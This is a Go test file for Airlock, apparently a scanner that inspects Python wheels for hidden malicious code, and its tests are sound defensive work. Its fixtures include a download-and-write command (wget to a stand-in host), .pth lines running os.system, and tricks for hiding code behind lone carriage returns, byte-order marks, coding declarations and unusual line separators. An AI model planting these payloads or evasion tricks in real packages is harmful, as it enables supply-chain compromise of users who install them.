package inspect

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"math/rand"
	"os/exec"
	"strings"
	"testing"

	"airlock/internal/fakepypi"
)

const spawnAtImport = "import subprocess; subprocess.Popen(['wget', 'http://example.invalid/m', '-O', '/tmp/m'])"

// Airlock reads the file Python runs: a payload hidden behind a line
// ending CPython honours, a coding declaration, or a byte-order mark is
// found; a declaration Airlock cannot decode as Python does is held.
func TestReadsWhatPythonRuns(t *testing.T) {
	for _, tt := range []struct {
		name, path, src, kind, severity string
	}{
		{"a lone CR ends the comment the code hides behind", "pkg/__init__.py", "# setup\r" + spawnAtImport + "\n", "download-exec", High},
		{"CRLF line endings", "pkg/__init__.py", "import os\r\n" + spawnAtImport + "\r\n", "download-exec", High},
		{"a UTF-8 BOM before the code", "pkg/__init__.py", "\ufeff" + spawnAtImport + "\n", "download-exec", High},
		{"latin-1 declared and decoded", "pkg/__init__.py", "# -*- coding: latin-1 -*-\n# caf\xe9\n" + spawnAtImport + "\n", "download-exec", High},
		{"unicode_escape turns \\u000a into a new line", "pkg/__init__.py", "# coding: unicode_escape\n#\\u000a" + spawnAtImport + "\n", "unreadable-source", High},
		{"utf-7 declared", "pkg/util.py", "# vim: set fileencoding=utf-7 :\nx = 1\n", "unreadable-source", High},
		{"a BOM before a .pth's import line (Python 3.13 strips it)", "demo_init.pth", "\ufeffimport os; os.system('id')\n", "pth-exec", Critical},
		{"a .pth line after a lone CR", "demo_init.pth", "/some/path\rimport os; os.system('id')\n", "pth-exec", Critical},
		{"a .pth installed as a data file into site-packages", "demo-1.0.data/data/lib/python3.12/site-packages/demo_init.pth", "import os; os.system('id')\n", "pth-exec", Critical},
	} {
		t.Run(tt.name, func(t *testing.T) {
			fn, data := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0", Extra: map[string]string{tt.path: tt.src}})
			rep, err := inspectBytes(t, fn, data)
			if err != nil {
				t.Fatal(err)
			}
			f, ok := kinds(rep)[tt.kind]
			if !ok || f.Severity != tt.severity || f.Path != tt.path {
				t.Errorf("want %s/%s at %s, got %+v", tt.kind, tt.severity, tt.path, rep.Findings)
			}
		})
	}
	// A declaration Python reads as UTF-8 changes nothing.
	fn, data := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0", Extra: map[string]string{"pkg/__init__.py": "# -*- coding: utf-8 -*-\nx = 'é'\n"}})
	if rep, _ := inspectBytes(t, fn, data); len(rep.Findings) != 0 {
		t.Errorf("a plain UTF-8 module: %+v", rep.Findings)
	}
}

// A module larger than the scan limit is held (its end was never read),
// not only warned about.
func TestOversizeModuleHolds(t *testing.T) {
	lim := DefaultLimits()
	lim.MaxScanBytes = 1 << 10
	src := strings.Repeat("x = 1\n", 400) + spawnAtImport + "\n"
	fn, data := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0", Extra: map[string]string{"pkg/big.py": src}})
	rep, err := File(bytes.NewReader(data), int64(len(data)), fn, lim)
	if err != nil {
		t.Fatal(err)
	}
	if f, ok := kinds(rep)["unscanned"]; !ok || f.Severity != High {
		t.Errorf("oversize module: %+v", rep.Findings)
	}
}

// pyc builds a .pyc header with these flags.
func pyc(flags uint32) string {
	h := make([]byte, 16)
	copy(h, []byte{0xcb, 0x0d, 0x0d, 0x0a}) // 3.12's magic
	binary.LittleEndian.PutUint32(h[4:], flags)
	return string(h) + "\xe3rest-of-the-code-object"
}

// Bytecode is code Airlock cannot read: sourceless .pyc and unchecked
// hash-based ones hold (Python runs them whatever the source says); a
// timestamp .pyc beside its source warns.
func TestBytecodeIsAFinding(t *testing.T) {
	for _, tt := range []struct {
		name, path, src, severity string
	}{
		{"sourceless module", "pkg/helper.pyc", pyc(0), High},
		{"unchecked hash-based pyc", "pkg/__pycache__/__init__.cpython-312.pyc", pyc(1), High},
		{"checked hash-based pyc", "pkg/__pycache__/__init__.cpython-312.pyc", pyc(3), Medium},
		{"timestamp pyc", "pkg/__pycache__/__init__.cpython-312.pyc", pyc(0), Medium},
	} {
		t.Run(tt.name, func(t *testing.T) {
			fn, data := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0", Extra: map[string]string{tt.path: tt.src, "pkg/__init__.py": "x = 1\n"}})
			rep, err := inspectBytes(t, fn, data)
			if err != nil {
				t.Fatal(err)
			}
			if f, ok := kinds(rep)["bytecode"]; !ok || f.Severity != tt.severity || f.Path != tt.path {
				t.Errorf("want bytecode/%s at %s, got %+v", tt.severity, tt.path, rep.Findings)
			}
		})
	}
}

// A member listed twice: what the review shows need not be what the
// installer writes.
func TestDuplicateMemberIsAFinding(t *testing.T) {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, body := range []string{"x = 1\n", spawnAtImport + "\n"} {
		w, _ := zw.Create("pkg/__init__.py")
		w.Write([]byte(body))
	}
	w, _ := zw.Create("pkg-1.0.dist-info/WHEEL")
	w.Write([]byte("Wheel-Version: 1.0\nRoot-Is-Purelib: true\n"))
	zw.Close()
	rep, err := inspectBytes(t, "pkg-1.0-py3-none-any.whl", buf.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if f, ok := kinds(rep)["duplicate-member"]; !ok || f.Severity != High || f.Path != "pkg/__init__.py" {
		t.Errorf("duplicate member: %+v", rep.Findings)
	}
}

// asPythonReads is held to CPython itself: importlib.util.decode_source is
// what compile() sees (PEP 263 declarations, BOM, universal newlines).
// Crafted sources and a few hundred random mixes of line endings, BOMs,
// declarations and bytes are decoded by both; where both accept a source
// they must agree to the byte, and Airlock may refuse (never misread) one
// CPython accepts.
func TestDecodeMatchesCPython(t *testing.T) {
	python, err := exec.LookPath("python3")
	if err != nil {
		t.Fatal("python3 not found")
	}
	inputs := []string{
		"x = 1\n", "\ufeffx = 1\n", "# coding: latin-1\nx = '\xe9'\n", "#!/usr/bin/env python\n# -*- coding: cp1252 -*-\ny = '\x80'\n",
		"a\rb\r\nc\n", "# c\rimport os\n", "x = 1\n# coding: latin-1\n", "# vim: set fileencoding=iso-8859-15 :\nz = '\xa4'\n",
		"\n# coding=utf8\nx\n", "x = 1\r", "# coding: unicode_escape\n#\\u000aprint(1)\n", "#coding:ascii\nx=1\n",
	}
	rng := rand.New(rand.NewSource(1))
	pieces := []string{"x = 1", "\r", "\n", "\r\n", "\ufeff", "# coding: latin-1", "# -*- coding: utf-8 -*-", "#", " ", "\xe9", "\t", "\f", "import os", "'\\r'", "coding:cp1252"}
	for range 400 {
		var b strings.Builder
		for range 1 + rng.Intn(8) {
			b.WriteString(pieces[rng.Intn(len(pieces))])
		}
		inputs = append(inputs, b.String())
	}
	var enc []string
	for _, in := range inputs {
		enc = append(enc, base64.StdEncoding.EncodeToString([]byte(in)))
	}
	script := `import sys, json, base64, importlib.util
out = []
for b in json.load(sys.stdin):
    try:
        out.append(base64.b64encode(importlib.util.decode_source(base64.b64decode(b)).encode("utf-8", "surrogatepass")).decode())
    except Exception:
        out.append(None)
json.dump(out, sys.stdout)`
	cmd := exec.Command(python, "-c", script)
	js, _ := json.Marshal(enc)
	cmd.Stdin = bytes.NewReader(js)
	raw, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	var got []*string
	if err := json.Unmarshal(raw, &got); err != nil {
		t.Fatal(err)
	}
	agreed := 0
	for i, in := range inputs {
		ours, problem := asPythonReads([]byte(in))
		if got[i] == nil || problem != "" {
			continue // CPython refuses it, or Airlock refuses to vouch for it
		}
		theirs, _ := base64.StdEncoding.DecodeString(*got[i])
		if !bytes.Equal(ours, theirs) {
			t.Errorf("%q: Airlock reads %q, CPython %q", in, ours, theirs)
		}
		agreed++
	}
	if agreed < len(inputs)/2 {
		t.Errorf("only %d of %d inputs compared", agreed, len(inputs))
	}
}

// A .pth is split as Python 3.13's site.py splits it (str.splitlines): a
// form feed or U+2028 before "import" starts a line that runs.
func TestPthSplitAsSiteDoes(t *testing.T) {
	for _, sep := range []string{"\f", "\v", "\u2028", "\x1c", "\u0085"} {
		fn, data := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0", Extra: map[string]string{"demo_init.pth": "/opt/lib" + sep + "import os; os.system('id')\n"}})
		rep, _ := inspectBytes(t, fn, data)
		if f := kinds(rep)["pth-exec"]; f.Severity != Critical {
			t.Errorf("%q before the import line: %+v", sep, rep.Findings)
		}
	}
}

// FuzzAsPythonReads: whatever the bytes, the reader ends lines as CPython
// does (no CR survives), drops a leading BOM, and refuses rather than
// guesses a declared codec it does not decode; it never panics.
func FuzzAsPythonReads(f *testing.F) {
	for _, s := range []string{"x = 1\n", "\ufeff# coding: latin-1\n\xe9\r\n", "# coding: unicode_escape\n", "a\rb\r\n\r", "#!/bin/py\n# vim: fileencoding=cp1252\n\x80"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		out, problem := asPythonReads(src)
		if problem != "" {
			if out != nil {
				t.Fatalf("a refused source still returned text")
			}
			return
		}
		if bytes.IndexByte(out, '\r') >= 0 {
			t.Fatalf("a CR survived in %q", out)
		}
		if bytes.HasPrefix(src, utf8BOM) && bytes.HasPrefix(out, utf8BOM) && !bytes.HasPrefix(src[3:], utf8BOM) {
			t.Fatalf("the BOM was kept")
		}
		for _, line := range pthLines(src) {
			if strings.ContainsAny(line, "\r\n\f\v") {
				t.Fatalf(".pth line %q still holds a line break", line)
			}
		}
	})
}
